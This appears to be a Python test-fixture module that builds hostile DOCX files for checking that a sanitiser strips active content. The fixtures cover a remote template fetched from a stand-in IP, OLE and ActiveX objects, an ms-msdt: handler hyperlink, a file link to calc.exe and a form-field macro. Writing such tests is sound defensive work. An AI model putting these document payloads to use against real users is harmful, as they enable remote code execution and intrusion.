"""DOCX files that hold what is taken out of them, and stay whole."""

from __future__ import annotations

from tests.docx.contracts import parts
from tests.docx.hostile import (
    ANYWHERE,
    OFFICE,
    OLE,
    PICTURE,
    PICTURE_TYPE,
    SVG,
    blip,
    changed,
    packed,
    para,
    rel,
)


def attached_template() -> bytes:
    known = parts(changed(settings=f'<w:attachedTemplate xmlns:r="{OFFICE}" r:id="rId1"/>'))
    known["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rel("attachedTemplate", "http://198.51.100.7/t.dotm", name="rId1")
        + "</Relationships>"
    ).encode()
    return packed(known)


def mail_merge_source() -> bytes:
    known = parts(
        changed(settings=f'<w:mailMerge xmlns:r="{OFFICE}"><w:dataSource r:id="rId1"/></w:mailMerge>')
    )
    known["word/_rels/settings.xml.rels"] = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + rel("mailMergeSource", "file:///c:/clientes.mdb", name="rId1")
        + "</Relationships>"
    ).encode()
    return packed(known)


def ole_object() -> bytes:
    return changed(
        body=para(
            '<w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt">'
            f'<v:imagedata xmlns:r="{OFFICE}" r:id="rIdP"/></v:shape>'
            f'<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="{OFFICE}" Type="Embed" '
            'ProgID="Package" r:id="rIdX"/></w:object>'
        ),
        rel=rel("oleObject", "embeddings/o.bin", external=False)
        + rel("image", "media/image9.png", external=False, name="rIdP"),
        files={"word/embeddings/o.bin": OLE, **PICTURE},
        types=PICTURE_TYPE + '<Default Extension="bin" ContentType="application/vnd.ms-office.oleObject"/>',
    )


def linked_ole_object() -> bytes:
    return changed(rel=rel("oleObject", "file:///c:/hoja.xlsx"))


def activex() -> bytes:
    return changed(
        body=para(f'<w:control xmlns:r="{OFFICE}" r:id="rIdX" w:name="x"/>'),
        rel=rel("control", "activeX/activeX1.xml", external=False),
        files={"word/activeX/activeX1.xml": b"<ax/>"},
    )


def picture_embedded_and_linked() -> bytes:
    return changed(
        body=blip('r:embed="rIdP" r:link="rIdX"'),
        rel=rel("image", ANYWHERE) + rel("image", "media/image9.png", external=False, name="rIdP"),
        files=PICTURE,
        types=PICTURE_TYPE,
    )


def svg_beside_a_picture() -> bytes:
    return changed(
        body=blip(
            'r:embed="rIdP"',
            '<a:extLst><a:ext uri="{96DAC541-7B7A-43D3-8B79-37D633B846F1}"><asvg:svgBlip '
            'xmlns:asvg="http://schemas.microsoft.com/office/drawing/2016/SVG/main" r:embed="rIdX"/>'
            "</a:ext></a:extLst>",
        ),
        rel=rel("image", "media/a.svg", external=False)
        + rel("image", "media/image9.png", external=False, name="rIdP"),
        files={"word/media/a.svg": SVG, **PICTURE},
        types=PICTURE_TYPE + '<Default Extension="svg" ContentType="image/svg+xml"/>',
    )


def hyperlink_to_a_file() -> bytes:
    return changed(
        body=f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>resultado</w:t></w:r></w:hyperlink></w:p>',
        rel=rel("hyperlink", "file:///c:/windows/calc.exe"),
    )


def hyperlink_to_a_handler() -> bytes:
    return changed(
        body=f'<w:p><w:hyperlink xmlns:r="{OFFICE}" r:id="rIdX"><w:r><w:t>resultado</w:t></w:r></w:hyperlink></w:p>',
        rel=rel("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    )


def macro_of_a_form_field() -> bytes:
    return changed(
        body=para(
            '<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="x"/></w:ffData></w:fldChar>'
            '<w:instrText>FORMTEXT</w:instrText><w:fldChar w:fldCharType="end"/>'
        )
    )


def customised_keys() -> bytes:
    return changed(
        rel='<Relationship Id="rIdX" '
        'Type="http://schemas.microsoft.com/office/2006/relationships/keyMapCustomizations" '
        'Target="customizations.xml"/>',
        files={"word/customizations.xml": b"<x/>"},
    )


def unknown_part() -> bytes:
    return changed(
        rel=rel("somethingNew", "new.bin", external=False),
        files={"word/new.bin": b"x"},
        types='<Default Extension="bin" ContentType="application/octet-stream"/>',
    )
